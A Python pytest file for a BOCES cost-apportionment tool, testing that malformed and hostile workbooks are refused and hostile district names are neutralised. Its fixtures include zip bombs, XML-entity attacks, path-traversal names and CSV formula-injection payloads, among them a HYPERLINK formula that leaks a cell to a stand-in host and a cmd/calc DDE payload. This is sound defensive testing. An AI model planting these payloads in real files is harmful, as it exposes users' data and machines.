"""The hardening corpus (issue 8): bad inputs built from a valid job, one defect each.

Every bad input must fail its job with exit 1 and the right issue code at the
right file, sheet and cell; the job's output folder holds only issues.csv and
ERRORS.txt; the input file is unchanged. Hostile files (bombs, entities,
encrypted, damaged) are refused before any parser can be hurt by them. Then the
inputs that are odd but valid — hostile names, other formats — must come out
safe, and a run killed mid-write must leave the previous outputs intact.
"""
from __future__ import annotations

import csv
from collections import Counter
import datetime as dt
import os
import random
import signal
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pytest

from apportion.batch import run_batch
from apportion.readers.safety import DEFAULT_LIMITS, Limits
from apportion.schema import BOCES_ITEMS

from . import corpus as C
from .builders import write_workbook


@dataclass
class Bad:
    """A bad input and every issue (code, sheet, cell) it must report, errors and warnings, each as often as it
    must be reported — no more, no fewer; cell "" only for an issue about a whole file or sheet."""

    path: Path
    expect: list[tuple[str, str, str]]
    limits: Limits = DEFAULT_LIMITS
    file: str = ""  # the file the issues must name (default: the input's own name)
    extra: dict = field(default_factory=dict)


CASES: dict[str, callable] = {}
CHANGES: dict[str, callable] = {}  # the cases that change the valid job, by name: change(sheets) → expected issues


def case(fn):
    CASES[fn.__name__] = fn
    return fn


def edit(name: str, change):
    """Register a case: the valid job changed by ``change(sheets)``, which returns the expected issues."""
    def build(tmp: Path) -> Bad:
        sheets = C.valid_sheets()
        expect = change(sheets)
        return Bad(C.write(tmp / "job.xlsx", sheets), expect)
    CASES[name] = build
    CHANGES[name] = change


def cell(sheet, header, row, value, code):
    """A change that puts ``value`` in one cell and expects ``code`` there."""
    def change(s):
        return [(code, sheet, C.set_cell(s, sheet, header, row, value))]
    return change


def also(change, *more):
    """``change``, expecting ``more`` issues besides its own."""
    return lambda s: change(s) + list(more)


def item(name, value, code, **others):
    def change(s):
        for k, v in others.items():
            C.set_item(s, k.replace("_", " "), v)
        return [(code, "BOCES", C.set_item(s, name, value))]
    return change


def dropped(sheet, header, code="missing-column", cell_=None, **items):
    def change(s):
        for k, v in items.items():
            C.set_item(s, k.replace("_", " "), v)
        C.drop_column(s, sheet, header)
        return [(code, sheet, "A1" if cell_ is None else cell_)]
    return change


def added(sheet, values, code, header):
    def change(s):
        row = C.add_row(s, sheet, values)
        return [(code, sheet, f"{C.column_letter(C.col(s, sheet, header))}{row}")]
    return change


# --- structure: sheets, columns, header rows -------------------------------------------

edit("missing_boces_sheet", lambda s: s.pop("BOCES") and [("missing-sheet", "BOCES", "")])
edit("missing_districts_sheet", lambda s: s.pop("Districts") and [("missing-sheet", "Districts", "")])
edit("missing_column_district_code", dropped("Districts", "District code"))
edit("missing_column_district_name", dropped("Districts", "District name"))
edit("missing_column_participation_service", dropped("Participation", "Service code"))
edit("missing_column_staff_salary", dropped("Staff", "Salary"))
# optional columns a service's unit cost basis needs: one error at the header row, not one per service
edit("missing_column_units_anticipated_basis", dropped("Participation", "Units"))
edit("missing_column_units_current_basis", dropped("Participation", "Current units"))
edit("missing_column_pd_board_date", dropped("Shared PD", "Board approval date"))
edit("missing_column_attendance_staff", dropped("PD Attendance", "Staff attending"))
edit("missing_column_collaboration_hours", dropped("Collaboration hours", "Hours"))
edit("header_below_row_10", lambda s: s.update(Staff=[["Staff"]] + [[None]] * 10 + s["Staff"])
     or [("missing-header-row", "Staff", "A1")])
edit("duplicate_column", lambda s: [row.append(row[4]) for row in s["Districts"]]
     and [("duplicate-column", "Districts", "K1")])
edit("boces_sheet_empty", lambda s: s.update(BOCES=[]) or [("missing-item", "BOCES", "A1")]  # one per item, at A1
     * sum(f.required for f in BOCES_ITEMS))
edit("duplicate_item", lambda s: s["BOCES"].append(["Capital budget", 1])
     or [("duplicate-item", "BOCES", f"B{len(s['BOCES'])}")])


# --- near misses: a name typed almost right is an error, never a silently unused value (issue 13) --------

def near_header(sheet, typed, values=None, meant=None):
    """The header ``typed`` added with ``values`` down the rows (or, ``meant``, typed in place of that header):
    a near-miss-column error at its header cell."""
    def change(s):
        cell_ = C.rename_column(s, sheet, meant, typed) if meant else C.add_column(s, sheet, typed, values)
        return [("near-miss-column", sheet, cell_)]
    return change


for name, args in {
        "prior_units": ("Participation", "Prior year units", [1, 2]),
        "actual_costs": ("Services", "Actual costs", [100_000]),
        "aid_av_punctuated": ("Districts", "Aid A.V.", [1]),
        "nonaidable": ("Services", "Nonaidable costs", [1_000]),
        "plural": ("Districts", "District names", None, "District name"),
        "required": ("Staff", "Salaries", None, "Salary"),
        # a known name with a word more, its words reordered, or cut short to half its words
        "word_more": ("Districts", "Email address", None, "Email"),
        "reordered": ("Participation", "Units current", None, "Current units"),
        "cut_short": ("Shared PD", "Credit", None, "Credit or certificate"),
        "vote": ("Districts", "Vote", None, "Budget vote")}.items():
    edit(f"near_miss_header_{name}", near_header(*args))
# an export's sheet under another name, headed exactly as a sheet the job lacks: read as it, and an error
edit("staff_sheet_exported_as_sheet1", lambda s: C.rename_sheet(s, "Staff", "Sheet1")
     or [("sheet-named-otherwise", "Sheet1", "")])
edit("near_miss_sheet_cut_short", lambda s: C.rename_sheet(s, "Collaboration hours", "Collaboration")
     or [("near-miss-sheet", "Collaboration", "")])
edit("near_miss_sheet_reordered", lambda s: C.rename_sheet(s, "PD Attendance", "Attendance PD")
     or [("near-miss-sheet", "Attendance PD", "")])
edit("near_miss_item_abbreviated", lambda s: [("near-miss-item", "BOCES",
                                              C.rename_item(s, "Administrative budget", "Admin budget"))])
edit("near_miss_sheet_staf", lambda s: C.rename_sheet(s, "Staff", "Staf") or [("near-miss-sheet", "Staf", "")])
edit("near_miss_sheet_service", lambda s: C.rename_sheet(s, "Services", "Service")
     or [("near-miss-sheet", "Service", "")])
edit("near_miss_sheet_no_space", lambda s: C.rename_sheet(s, "Shared PD", "SharedPD")
     or [("near-miss-sheet", "SharedPD", "")])
edit("near_miss_item", lambda s: s["BOCES"].append(["Capital aidable fracton", 0.5])
     or [("near-miss-item", "BOCES", f"A{len(s['BOCES'])}")])
edit("participation_without_services", lambda s: s.pop("Services") and [("missing-sheet", "Services", "")])
edit("attendance_without_shared_pd", lambda s: s.pop("Shared PD") and [("missing-sheet", "Shared PD", "")])

# --- what the computation needs, checked in the same pass ----------------------------------------

edit("approvals_above_participants",  # service 101: Albany and Berne-Knox take part (Outside is no component)
     lambda s: [("approvals-over-participants", "Services", f"{C.add_column(s, 'Services', 'Approvals', [3])[0]}2")])
edit("surplus_without_participants",
     lambda s: C.add_row(s, "Services", {"Service code": "930", "Service name": "Closed program", "Budget": 0})
     and [("surplus-without-participants", "Services",
           f"{C.add_column(s, 'Services', 'Surplus', [None, None, None, 5_000])[0]}5")])


@case
def merged_header(tmp):
    """"District code" merged over A1:B1 hides the "District name" header: the names stand under no header."""
    src = C.write(tmp / "src.xlsx")
    path = C.with_openpyxl(src, tmp / "job.xlsx", lambda book: book["Districts"].merge_cells("A1:B1"))
    return Bad(path, [("missing-column", "Districts", "A1"), ("unheaded-column", "Districts", "B1")])


@case
def empty_workbook(tmp):
    return Bad(write_workbook(tmp / "job.xlsx", {"Sheet1": []}),
               [("missing-sheet", "BOCES", ""), ("missing-sheet", "Districts", ""), ("unknown-sheet", "Sheet1", "")])


# --- number cells ------------------------------------------------------------------------

edit("text_in_money", cell("Districts", "Full value", 2, "lots", "not-money"))
edit("text_in_quantity", cell("Districts", "RWADA", 1, "many", "not-a-number"))
edit("dollar_sign_in_pupils", cell("Districts", "RWADA", 1, "$1,284.62", "not-a-number"))  # pupils, not money
edit("half_a_person_attending", cell("PD Attendance", "Staff attending", 1, 5.5, "not-whole"))
edit("half_a_pupil_enrolled", cell("Districts", "Enrollment", 1, 1234.5, "not-whole"))  # a head count (tester M3)
edit("half_a_district_approving", lambda s: [("not-whole", "Services",
                                              f"{C.add_column(s, 'Services', 'Approvals', [2.5])[0]}2")])
edit("blank_required_cell", cell("Districts", "District name", 2, None, "missing-value"))
edit("blank_required_item", item("Administrative budget", "  ", "missing-item"))
edit("negative_money", cell("Services", "Budget", 1, -5, "negative-value"))
edit("negative_units", cell("Participation", "Units", 1, -1, "negative-value"))
edit("negative_money_in_parentheses", cell("Staff", "Salary", 1, "(72,000)", "negative-value"))
edit("nan_text_in_money", cell("Staff", "Salary", 2, "nan", "not-money"))
edit("inf_text_in_quantity", cell("Shared PD", "Days", 1, "inf", "not-a-number"))
edit("minus_infinity_in_money", cell("Districts", "Tax levy", 3, "-Infinity", "not-money"))
edit("huge_number", cell("Services", "Budget", 3, 1e300, "number-too-large"))


def staff_total_too_large(s):
    """Salaries of $1,000,000,000,000 (the cell bound, allowed) below the corpus's own: 100 of them make
    $10**14, the column bound (10**16 cents), so with the corpus's salaries above the total passes it at the 100th."""
    rows = [C.add_row(s, "Staff", {"Service code": "101", "Employee": f"Employee {i}", "Salary": 10**12})
            for i in range(101)]
    return [("column-total-too-large", "Staff", f"{C.column_letter(C.col(s, 'Staff', 'Salary'))}{rows[99]}")]


edit("money_column_total_too_large", staff_total_too_large)
edit("boolean_in_money", cell("Districts", "Full value", 1, True, "not-money"))
edit("date_in_money", cell("Services", "Budget", 2, dt.date(2026, 7, 1), "not-money"))
edit("fraction_of_cent_cell", cell("Services", "Budget", 2, 300_000.255, "fraction-of-cent"))
edit("fraction_of_cent_item", item("Capital budget", 400_000.001, "fraction-of-cent"))
edit("too_many_decimals", cell("Participation", "Units", 2, 1.0000001, "too-many-decimals"))
edit("text_in_boces_money", item("Rent budget", "sixty thousand", "not-money"))

# --- impossible ratios, percentages, pools -------------------------------------------------

edit("blend_percent_150", item("Blend true value percent", 150, "blend-percent-range", Apportionment_method="blend",
                               Blend_authority="Suffolk"))
edit("blend_percent_text_150", item("Blend true value percent", "150%", "blend-percent-range",
                                    Apportionment_method="blend", Blend_authority="Suffolk"))
edit("capital_fraction_2", item("Capital aidable fraction", 2, "fraction-range"))
edit("capital_fraction_negative", item("Capital aidable fraction", "-0.5", "not-a-number"))
edit("negative_admin_pool", item("State aid administrative", 3_000_000, "negative-pool"))
edit("negative_capital_pool", item("Other revenue capital", 500_000, "negative-pool"))
edit("pd_fifteen_days", cell("Shared PD", "Days", 1, 15, "pd-too-long"))
edit("pd_grants_credit", cell("Shared PD", "Credit or certificate", 1, "yes", "pd-credit"))
edit("pd_post_dated", cell("Shared PD", "Board approval date", 1, dt.date(2026, 9, 20), "pd-post-dated"))
edit("pd_one_paying_district", lambda s: s.update({"PD Attendance": s["PD Attendance"][:2]})
     or [("pd-too-few-districts", "Shared PD", "A2")])
# a failed budget vote (all four components vote no) needs the prior year's budget for the contingency budget
edit("failed_vote_without_prior_budget", lambda s: [C.set_cell(s, "Districts", "Budget vote", r, "no") for r in range(1, 5)]
     and C.set_item(s, "Prior year administrative budget", None) == ""
     and [("prior-budget-missing", "BOCES", f"A{len(s['BOCES']) + 1}")])
# cap 2,400,000 + 10,000 = 2,410,000 charged; less 2,450,000 state aid: −40,000 (the proposed pool, +50,000, is fine)
edit("negative_contingency_pool", lambda s: [C.set_cell(s, "Districts", "Budget vote", r, "no") for r in range(1, 5)]
     and [("negative-pool", "BOCES", C.set_item(s, "State aid administrative", 2_450_000))])
edit("blend_off_putnam_nw_schedule", item("Blend true value percent", 60, "blend-off-schedule",
                                          Apportionment_method="blend", Blend_authority="Putnam-Northern Westchester"))
edit("year_without_law_parameters", lambda s: C.set_item(s, "State average AV per RWADA", None) == ""
     and [("no-parameter", "BOCES", C.set_item(s, "School year", "2005-06"))])
# service 220's $2,000,000 over 0.000001 current units: a unit cost of $2 × 10^12, past the money limit
edit("unit_cost_too_large", lambda s: C.set_cell(s, "Participation", "Current units", 3, 0.000001)
     and C.set_cell(s, "Participation", "Current units", 4, 0)
     and [("unit-cost-too-large", "Services", C.set_cell(s, "Services", "Budget", 2, 2_000_000))])
edit("service_without_participants", lambda s: [C.set_cell(s, "Participation", "Current units", r, 0) for r in (3, 4)]
     and [("no-participation", "Services", "C3")])

# --- dates, choices, codes --------------------------------------------------------------------

edit("date_text_in_table", cell("Shared PD", "Board approval date", 1, "next Tuesday", "not-a-date"))
edit("date_as_plain_number", cell("PD Attendance", "Date", 1, 46085, "not-a-date"))
edit("date_text_item", item("Method hearing date", "soon", "bad-item"))
edit("date_before_1990_text", cell("Shared PD", "Board approval date", 1, "1026-04-21", "not-a-date"))  # 2026 mistyped
edit("date_year_one", cell("PD Attendance", "Date", 1, "0001-01-01", "not-a-date"))
edit("date_after_2100", cell("Shared PD", "Start date", 1, dt.date(2106, 2, 1), "not-a-date"))
edit("date_item_before_1990", item("Prepared date", "1026-04-21", "bad-item"))
# a Collaboration quarter is a year and a quarter 1-4 (rules §7 counts quarters): anything else at its cell
edit("quarter_five", cell("Collaboration hours", "Quarter", 1, "2026-Q5", "not-a-quarter"))
edit("quarter_zero", cell("Collaboration hours", "Quarter", 2, "2026-Q0", "not-a-quarter"))
edit("quarter_year_mistyped", cell("Collaboration hours", "Quarter", 1, "1026-Q1", "not-a-quarter"))
edit("quarter_as_a_date", cell("Collaboration hours", "Quarter", 1, dt.date(2026, 1, 15), "not-a-quarter"))
edit("quarter_as_a_number", cell("Collaboration hours", "Quarter", 1, 2026.1, "not-a-quarter"))
edit("quarter_fullwidth_digits", cell("Collaboration hours", "Quarter", 3, "\uff12\uff10\uff12\uff16-Q1", "not-a-quarter"))
edit("bad_school_year", item("School year", "2026", "bad-school-year"))
edit("unknown_method", item("Apportionment method", "coin toss", "bad-item"))
edit("unknown_district_type", cell("Districts", "Type", 2, "regional", "unknown-choice"))
edit("bad_yes_no", cell("Services", "Aidable", 1, "maybe", "not-yes-no"))
edit("bad_email", cell("Districts", "Email", 3, "business office", "bad-email"))
# the district whose code is refused (or overwritten by a duplicate) is no longer listed: its Participation row
# says so in the same pass
edit("bad_beds_code", also(cell("Districts", "District code", 5, "12-34", "bad-district-code"),
                           ("unknown-district", "Participation", "A6")))
edit("duplicate_district", also(cell("Districts", "District code", 3, C.CODES[0], "duplicate-code"),
                                ("unknown-district", "Participation", "A4")))
edit("duplicate_service", added("Services", {"Service code": "101", "Budget": 5}, "duplicate-code", "Service code"))
edit("duplicate_participation", added("Participation", {"District code": C.CODES[0], "Service code": "101", "Units": 1},
                                      "duplicate-code", "Service code"))
edit("duplicate_contract", added("Shared PD", {"Contract": "PD-1", "Cost": 1, "Days": 1,
                                               "Board approval date": dt.date(2026, 1, 1),
                                               "Start date": dt.date(2026, 2, 1)}, "duplicate-code", "Contract"))
edit("unknown_district_in_participation", cell("Participation", "District code", 1, "099999999999",
                                               "unknown-district"))
edit("unknown_service_in_participation", cell("Participation", "Service code", 1, "999", "unknown-service"))
edit("unknown_service_in_staff", cell("Staff", "Service code", 2, "777", "unknown-service"))
edit("unknown_contract", cell("PD Attendance", "Contract", 2, "PD-9", "unknown-contract"))
edit("unknown_district_in_attendance", cell("PD Attendance", "District code", 3, "680000000000", "unknown-district"))
edit("unknown_district_in_collaboration", cell("Collaboration hours", "District code", 3, "680000000000",
                                               "unknown-district"))

# --- every method without the column it needs ---------------------------------------------

edit("true_value_without_full_value", dropped("Districts", "Full value",
                                              Apportionment_method="true value"))
edit("wada_without_rwada", dropped("Districts", "RWADA"))
edit("enrollment_without_enrollment", dropped("Districts", "Enrollment", Apportionment_method="enrollment"))
edit("blend_without_full_value", dropped("Districts", "Full value", Apportionment_method="blend",
                                         Blend_authority="Suffolk", Blend_true_value_percent=50))
edit("blend_without_rwada", dropped("Districts", "RWADA", Apportionment_method="blend",
                                    Blend_authority="Suffolk", Blend_true_value_percent=50))


# --- cells whose value cannot be trusted -----------------------------------------------------

edit("formula_without_value", cell("Districts", "Full value", 3, "=FORMULA:1+1", "formula-without-value"))
edit("formula_without_value_item", item("Capital budget", "=FORMULA:SUM(1,2)", "formula-without-value"))


@case
def excel_error_cell(tmp):
    path = C.excel_error(C.write(tmp / "src.xlsx"), tmp / "job.xlsx", 2, "E3", "#N/A")
    return Bad(path, [("excel-error", "Districts", "E3")])


# --- files that are not honest workbooks ------------------------------------------------------

@case
def zero_byte_file(tmp):
    (tmp / "job.xlsx").write_bytes(b"")
    return Bad(tmp / "job.xlsx", [("empty-file", "", "")])


@case
def text_file_named_xlsx(tmp):
    (tmp / "job.xlsx").write_text("District code,District name\n010100010000,Albany\n")
    return Bad(tmp / "job.xlsx", [("not-a-workbook", "", "")])


@case
def csv_file(tmp):
    (tmp / "job.csv").write_text("District code,District name\n010100010000,Albany\n")
    return Bad(tmp / "job.csv", [("not-a-workbook", "", "")])


@case
def xlsb_file(tmp):
    (tmp / "job.xlsb").write_bytes(C.write(tmp / "src.xlsx").read_bytes())
    return Bad(tmp / "job.xlsb", [("not-a-workbook", "", "")])


@case
def xlsx_named_xls(tmp):  # `template -o x.xls` used to write one; calamine read it as OLE and failed
    return Bad(C.write(tmp / "src.xlsx").rename(tmp / "job.xls"), [("misnamed-workbook", "", "")])


@case
def xlsx_named_ods(tmp):  # tester M8: was unreadable-workbook, saying nothing of why
    return Bad(C.write(tmp / "src.xlsx").rename(tmp / "job.ods"), [("misnamed-workbook", "", "")])


@case
def ods_named_xlsx(tmp):  # an OpenDocument spreadsheet saved under .xlsx
    with zipfile.ZipFile(tmp / "job.xlsx", "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    return Bad(tmp / "job.xlsx", [("misnamed-workbook", "", "")])


@case
def garbage_xls(tmp):
    (tmp / "job.xls").write_bytes(b"this is not a spreadsheet " * 40)
    return Bad(tmp / "job.xls", [("unreadable-workbook", "", "")])


@case
def password_protected_xlsx(tmp):
    return Bad(C.ole_file(tmp / "job.xlsx"), [("encrypted-workbook", "", "")])


@case
def password_protected_xlsm(tmp):
    return Bad(C.ole_file(tmp / "job.xlsm"), [("encrypted-workbook", "", "")])


@case
def ole_with_impossible_header(tmp):
    """calamine would reserve gigabytes from this 1.5 KB header and abort the process."""
    return Bad(C.ole_file(tmp / "job.xls"), [("corrupt-workbook", "", "")])


@case
def truncated_zip(tmp):
    return Bad(C.truncated(C.write(tmp / "src.xlsx"), tmp / "job.xlsx"), [("corrupt-workbook", "", "")])


@case
def corrupted_zip_data(tmp):
    return Bad(C.corrupted(C.write(tmp / "src.xlsx"), tmp / "job.xlsx"), [("corrupt-workbook", "", "")])


@case
def damaged_sheet_xml(tmp):
    """The zip is sound but a sheet's XML is cut short: calamine's error becomes an issue on that sheet."""
    path = C.repack(C.write(tmp / "src.xlsx"), tmp / "job.xlsx",
                    lambda n, d: d[: len(d) // 2] if n == "xl/worksheets/sheet2.xml" else d)
    return Bad(path, [("unreadable-sheet", "Districts", "")])


@case
def zip_bomb(tmp):
    return Bad(C.zip_bomb(tmp / "job.xlsx", 32 * 2**20), [("zip-bomb", "", "")])


@case
def zip_bomb_over_small_limit(tmp):
    return Bad(C.zip_bomb(tmp / "job.xlsx", 4 * 2**20), [("zip-bomb", "", "")],
               Limits(max_uncompressed_bytes=2**20))


@case
def zip_declaring_a_terabyte(tmp):
    return Bad(C.lying_zip(tmp / "job.xlsx"), [("zip-bomb", "", "")])


@case
def zip_with_too_many_parts(tmp):
    src = C.write(tmp / "src.xlsx")
    path = C.repack(src, tmp / "job.xlsx", extra={f"junk/{i}.xml": b"<a/>" for i in range(40)})
    return Bad(path, [("zip-bomb", "", "")], Limits(max_zip_entries=30))


@case
def billion_laughs(tmp):
    path = C.with_doctype(C.write(tmp / "src.xlsx"), tmp / "job.xlsx", "xl/worksheets/sheet2.xml", C.BILLION_LAUGHS)
    return Bad(path, [("xml-entities", "", "")])


@case
def external_entity(tmp):
    path = C.with_doctype(C.write(tmp / "src.xlsx"), tmp / "job.xlsx", "xl/sharedStrings.xml", C.EXTERNAL_ENTITY)
    return Bad(path, [("xml-entities", "", "")])


@case
def entity_in_workbook_part(tmp):
    path = C.with_doctype(C.write(tmp / "src.xlsx"), tmp / "job.xlsx", "xl/workbook.xml", C.EXTERNAL_ENTITY)
    return Bad(path, [("xml-entities", "", "")])


@case
def sheet_area_bomb(tmp):
    """Two cells, A1 and XFD1048576: 5 KB that would ask calamine for 17 billion cells."""
    sheets = C.valid_sheets()
    sheets["Staff"].extend([[None]] * 1_048_570)  # rows are written lazily: only the last one is stored
    sheets["Staff"][-1] = [None] * 16_383 + ["x"]
    return Bad(write_workbook(tmp / "job.xlsx", sheets), [("sheet-too-large", "Staff", "")])


@case
def shared_strings_count_bomb(tmp):
    import re
    path = C.repack(C.write(tmp / "src.xlsx"), tmp / "job.xlsx",
                    lambda n, d: re.sub(rb'uniqueCount="\d+"', b'uniqueCount="4000000000"', d)
                    if n == "xl/sharedStrings.xml" else d)
    return Bad(path, [("corrupt-workbook", "", "")])


@case
def ods_repeat_bomb(tmp):
    path = C.write_ods(tmp / "src.ods", {"BOCES": [["Item", "Value"]], "S": [["x"]]})
    bomb = (b'<table:table-row table:number-rows-repeated="100000"><table:table-cell '
            b'table:number-columns-repeated="1000" office:value-type="float" office:value="1">'
            b"<text:p>1</text:p></table:table-cell></table:table-row>")
    path = C.repack(path, tmp / "job.ods", lambda n, d: d.replace(
        b'<table:table-row><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
        b"</table:table-row>", bomb) if n == "content.xml" else d)
    return Bad(path, [("sheet-too-large", "S", "")])


@case
def file_over_size_limit(tmp):
    return Bad(C.write(tmp / "job.xlsx"), [("file-too-large", "", "")], Limits(max_file_bytes=4096))


@case
def rows_over_limit(tmp):
    return Bad(C.write(tmp / "job.xlsx"), [("too-many-rows", "BOCES", "")], Limits(max_rows=10))


@case
def cells_over_limit(tmp):
    return Bad(C.write(tmp / "job.xlsx"), [("sheet-too-large", "Districts", "")], Limits(max_cells=40))


@case
def sheet_in_two_workbooks(tmp):
    folder = tmp / "job"
    folder.mkdir()
    sheets = C.valid_sheets()
    write_workbook(folder / "a-boces.xlsx", {"BOCES": sheets["BOCES"], "Districts": sheets["Districts"]})
    write_workbook(folder / "b-districts.xlsx", {"Districts": sheets["Districts"]})
    return Bad(folder, [("sheet-in-two-workbooks", "Districts", "")], file="job/b-districts.xlsx")


# --- the checks common to every case ----------------------------------------------------------

def _snapshot(path: Path) -> dict[str, str]:
    files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file())
    return {str(p): C.sha256(p) for p in files}


@pytest.mark.parametrize("name", sorted(CASES))
def test_bad_input_is_refused(name, tmp_path):
    bad = CASES[name](tmp_path)
    before = _snapshot(bad.path)
    out = tmp_path / "out"
    batch = run_batch([bad.path], out, jobs=1, limits=bad.limits)
    assert batch.exit_code == 1
    [outcome] = batch.outcomes
    assert outcome.status == "failed", outcome.message
    errors = [i for i in outcome.issues if i.severity == "error"]
    # every issue reported (errors and warnings: what issues.csv lists), as a multiset: one slip, one report each
    found = Counter((i.code, i.sheet, i.cell) for i in outcome.issues if i.severity != "note")
    expected = Counter(bad.expect)
    assert found == expected, ("missing", sorted((expected - found).elements()), "unexpected",
                               sorted((found - expected).elements()))
    named = bad.file or bad.path.name
    assert C.unlocated(outcome.issues) == []  # each names its file, and its sheet and cell at its level
    assert any(i.file == named for i in errors if (i.code, i.sheet, i.cell) in bad.expect), [i.file for i in errors]
    # no partial output: the job's folder holds only the error report
    folders = [p for p in out.iterdir() if not p.name.startswith(".")]
    assert len(folders) == 1 and sorted(p.name for p in folders[0].iterdir()) == [".apportion-output", "ERRORS.txt",
                                                                                  "issues.csv"]
    with open(folders[0] / "issues.csv", newline="", encoding="utf-8") as fh:
        listed = Counter((row["code"], row["sheet"], row["cell"]) for row in csv.DictReader(fh))
    assert listed == expected  # issues.csv says the same
    assert _snapshot(bad.path) == before  # the input is never touched


#: the checks the computation relies on (law parameters, blend schedule, contingency budget, COSER 507, units)
COMPUTATION_CHECKS = ("year_without_law_parameters", "blend_off_putnam_nw_schedule", "failed_vote_without_prior_budget",
                      "negative_contingency_pool", "pd_fifteen_days", "pd_grants_credit", "pd_post_dated",
                      "pd_one_paying_district", "unit_cost_too_large", "service_without_participants",
                      "approvals_above_participants", "surplus_without_participants", "negative_admin_pool")


@pytest.mark.parametrize("name", COMPUTATION_CHECKS)
def test_computation_checks_come_in_the_one_validate_pass(name, tmp_path):
    """Each check the computation relies on is reported by one `validate` beside a text cell and an unknown
    district on Participation, not only once those are fixed (issue 13, point 3)."""
    from click.testing import CliRunner

    from apportion.cli import cli
    sheets = C.valid_sheets()
    expect = CHANGES[name](sheets) + [
        ("not-money", "Districts", C.set_cell(sheets, "Districts", "Tax levy", 2, "n/a")),
        ("unknown-district", "Participation", C.set_cell(sheets, "Participation", "District code", 6, "019999999999"))]
    path = C.write(tmp_path / "job.xlsx", sheets)
    batch = run_batch([path], tmp_path / "out", jobs=1, write=False)
    assert Counter((i.code, i.sheet, i.cell) for i in batch.outcomes[0].issues if i.severity != "note") == Counter(expect)
    result = CliRunner().invoke(cli, ["validate", str(path)])
    assert result.exit_code == 1
    assert all(f"[{code}]" in result.output for code, _, _ in expect), result.output


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 50


# --- odd but valid inputs ---------------------------------------------------------------------

def _run_ok(path: Path, out: Path) -> Path:
    batch = run_batch([path], out, jobs=1)
    assert batch.exit_code == 0, [(o.status, o.message, [(i.code, i.cell) for i in o.issues if i.severity == "error"])
                                  for o in batch.outcomes]
    [outcome] = batch.outcomes
    return Path(outcome.output)


def _rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
              "@SUM(1,2)"]


@pytest.fixture(scope="module")
def hostile_names_run(tmp_path_factory):
    """One run with formula-injection, unsafe-path, reserved and unusual names, shared by the tests below."""
    tmp = tmp_path_factory.mktemp("hostile")
    sheets = C.valid_sheets()
    names = INJECTIONS + ["../../x"]
    for row, name in enumerate(names, start=1):
        C.set_cell(sheets, "Districts", "District name", row, name)
    extra = {"CON": "010701010000", "Saint Mary's / East": "010702010000", "Saint Mary's \\ East": "010703010000",
             "\u0645\u062f\u0631\u0633\u0629 \U0001f3eb \u05d1\u05d9\u05ea": "010704010000",
             "Bell\x07 and\x1b escape\u202e": "010705010000", "L" * 200: "010706010000"}  # the longest name allowed
    for name, code in extra.items():
        C.add_row(sheets, "Districts", {"District code": code, "District name": name, "Type": "component",
                                        "Full value": 100_000_000, "RWADA": 100, "Enrollment": 90,
                                        "Tax levy": 2_000_000, "Budget vote": "yes"})
    path = C.write(tmp / "hostile.xlsx", sheets)
    return _run_ok(path, tmp / "out"), names + list(extra)


def test_injection_neutralised_in_csv(hostile_names_run):
    folder, _ = hostile_names_run
    for name in ("billing.csv", "aid.csv"):
        shown = {row["district_name"] for row in _rows(folder / name)}
        for text in INJECTIONS:
            assert "'" + text in shown and text not in shown, (name, text)
    amounts = [row["amount"] for row in _rows(folder / "billing.csv")]
    assert any(a.startswith("-") for a in amounts)  # credits stay plain negative numbers


def test_injection_is_text_in_every_workbook(hostile_names_run):
    folder, _ = hostile_names_run
    seen = set()
    for book_path in folder.rglob("*.xlsx"):
        book = openpyxl.load_workbook(book_path)
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if isinstance(c.value, str) and c.value in INJECTIONS:
                        assert c.data_type == "s", (book_path.name, ws.title, c.coordinate)
                        seen.add(c.value)
                    assert c.data_type != "f" or not any(t in str(c.value) for t in ("HYPERLINK", "cmd", "SUM(1,2)"))
    assert seen == set(INJECTIONS)


def test_statement_file_names_are_safe_and_unique(hostile_names_run):
    folder, names = hostile_names_run
    files = sorted(p for p in (folder / "districts").iterdir())
    statements = [p for p in files if p.suffix == ".xlsx"]
    # nothing but the statements and, beside each, its document
    assert sorted(p for p in files if p.suffix != ".xlsx") == [p.with_suffix(".json") for p in statements]
    stems = [p.stem for p in statements]
    assert len({s.casefold() for s in stems}) == len(stems) == 11  # 10 components and the billed non-component
    for stem in stems:
        code, short = stem.split("_", 1)
        assert len(code) == 12 and code.isdigit()
        assert 0 < len(short) <= 40 and all(ch.isalnum() and ch.isascii() or ch in "-_" for ch in short)
        assert short.casefold() not in {"con", "prn", "aux", "nul"}
    assert not list(folder.parent.rglob("x.xlsx")) and not (folder.parent.parent / "x").exists()


def test_unusual_unicode_kept_in_billing(hostile_names_run):
    folder, names = hostile_names_run
    shown = {row["district_name"] for row in _rows(folder / "billing.csv")}
    assert "\u0645\u062f\u0631\u0633\u0629 \U0001f3eb \u05d1\u05d9\u05ea" in shown
    assert "L" * 200 in shown


def test_valid_xlsm(tmp_path):
    path = tmp_path / "job.xlsm"
    path.write_bytes(C.write(tmp_path / "src.xlsx").read_bytes())
    _run_ok(path, tmp_path / "out")


def test_valid_ods(tmp_path):
    folder = _run_ok(C.write_ods(tmp_path / "job.ods", C.valid_sheets()), tmp_path / "out")
    reference = _run_ok(C.write(tmp_path / "ref.xlsx"), tmp_path / "out-ref")
    assert (folder / "billing.csv").read_bytes() == (reference / "billing.csv").read_bytes()


def test_valid_xls(tmp_path):
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook()
    dates = xlwt.easyxf(num_format_str="yyyy-mm-dd")
    for name, rows in C.valid_sheets().items():
        ws = book.add_sheet(name)
        for i, row in enumerate(rows):
            for j, v in enumerate(row):
                if isinstance(v, dt.date):
                    ws.write(i, j, dt.datetime.combine(v, dt.time()), dates)
                elif v is not None:
                    ws.write(i, j, v)
    book.save(str(tmp_path / "job.xls"))
    folder = _run_ok(tmp_path / "job.xls", tmp_path / "out")
    reference = _run_ok(C.write(tmp_path / "ref.xlsx"), tmp_path / "out-ref")
    assert (folder / "billing.csv").read_bytes() == (reference / "billing.csv").read_bytes()


